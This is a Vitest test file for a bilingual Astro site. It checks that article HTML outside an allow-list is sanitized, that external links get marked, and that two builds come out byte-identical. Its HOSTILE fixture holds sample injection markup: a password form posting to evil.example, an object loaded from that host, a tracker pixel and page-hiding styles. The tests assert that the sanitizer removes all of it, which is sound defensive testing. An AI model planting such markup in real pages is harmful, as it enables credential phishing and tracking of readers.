// The extra builds of the suite, kept small: the fixture corpus (every page
// kind, a handful of pages), with an article carrying HTML the validator
// allows but the allow-list does not, and links leaving the site, built
// twice. The first build shows what the reader gets: sanitized and marked.
// The second must be byte-identical to it: the build is deterministic.
// (The determinism check used to rebuild the whole real site, the slowest
// step of the suite; the fixture exercises the same templates and code.)
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'node-html-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useStrings } from '../../src/i18n/index.ts';
import { metaPolicy } from '../../src/lib/csp.ts';
import { copyFixture, edit } from '../helpers/fixture.ts';
import { astroBuild } from '../helpers/astro-build.ts';

const HOSTILE = [
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0" class="overlay">overlay text</div>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<img src="https://tracker.example/pixel.gif" alt="pixel">',
  '<abbr title="Meta Superintelligence Labs">MSL</abbr>',
].join('\n');

const content = copyFixture();
const outDir = fs.mkdtempSync(path.join(os.tmpdir(), 'avocado-safe-'));
const again = fs.mkdtempSync(path.join(os.tmpdir(), 'avocado-rebuild-'));
afterAll(() => [content, outDir, again].forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

const built = (locale: 'en' | 'zh-tw') => parse(fs.readFileSync(path.join(outDir, locale, 'articles/sample-article/index.html'), 'utf8'));

beforeAll(() => {
  edit(content, 'articles/sample-article/en.md', '## The window', `## The window\n\n${HOSTILE}\n\nRead [the post](https://example.org/post).`);
  edit(content, 'articles/sample-article/zh-tw.md', '## 發布時間', `## 發布時間\n\n${HOSTILE}\n\n參見[原文](https://example.org/post)。`);
  const r = astroBuild(outDir, { AVOCADO_CONTENT_DIR: content });
  if (r.status !== 0) throw new Error(`fixture build failed:\n${r.stdout}\n${r.stderr}`);
});

describe('an article with raw HTML outside the allow-list, once built', () => {
  it.each(['en', 'zh-tw'] as const)('%s: keeps the text and allowed tags, drops styles, forms, objects, foreign images', (locale) => {
    const body = built(locale).querySelector('main')!;
    expect(body.querySelector('h2')?.getAttribute('id')).toBeTruthy();
    expect(body.text).toContain('overlay text');
    expect(body.querySelector('abbr')?.getAttribute('title')).toBe('Meta Superintelligence Labs');
    for (const sel of ['style', 'form', 'input', 'object', 'img[src]', '.overlay', '[style]']) expect(body.querySelector(sel)?.toString(), sel).toBeUndefined();
    expect(body.innerHTML).not.toMatch(/display:none|evil\.example|tracker\.example/);
  });

  it('keeps GFM tables (the English fixture has one)', () => {
    // The first cell of a body row becomes its row header (src/lib/markdown/tables.ts).
    expect(built('en').querySelector('main table tbody th[scope="row"]')?.text).toBe('1');
    expect(built('en').querySelector('main table tbody td')?.text).toBe('2');
  });

  it.each([
    ['en', 'en'],
    ['zh-tw', 'zh-TW'],
  ] as const)('%s: marks the external link with rel, class and hidden text in that language', (dir, locale) => {
    const a = built(dir).querySelector('main a[href="https://example.org/post"]')!;
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a.classList.contains('external')).toBe(true);
    expect(a.querySelector('.visually-hidden')?.text.trim()).toBe(useStrings(locale).site.externalLink);
  });

  it('still carries its CSP meta tag', () => {
    expect(metaPolicy(built('en').toString())).toMatch(/^default-src 'self';.* script-src 'self' 'sha256-/);
  });
});

describe('the build', () => {
  const files = (dir: string) => (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[]).filter((d) => d.isFile()).map((d) => path.relative(dir, path.join(d.parentPath, d.name)).split(path.sep).join('/')).sort();

  it('is deterministic: a second build of the same commit and content is byte-identical', () => {
    const r = astroBuild(again, { AVOCADO_CONTENT_DIR: content });
    expect(r.status, r.stderr).toBe(0);
    const first = files(outDir);
    expect(first.filter((f) => f.endsWith('.html')).length).toBeGreaterThan(20);
    expect(files(again)).toEqual(first);
    const differing = first.filter((f) => !fs.readFileSync(path.join(outDir, f)).equals(fs.readFileSync(path.join(again, f))));
    expect(differing).toEqual([]);
  });
});
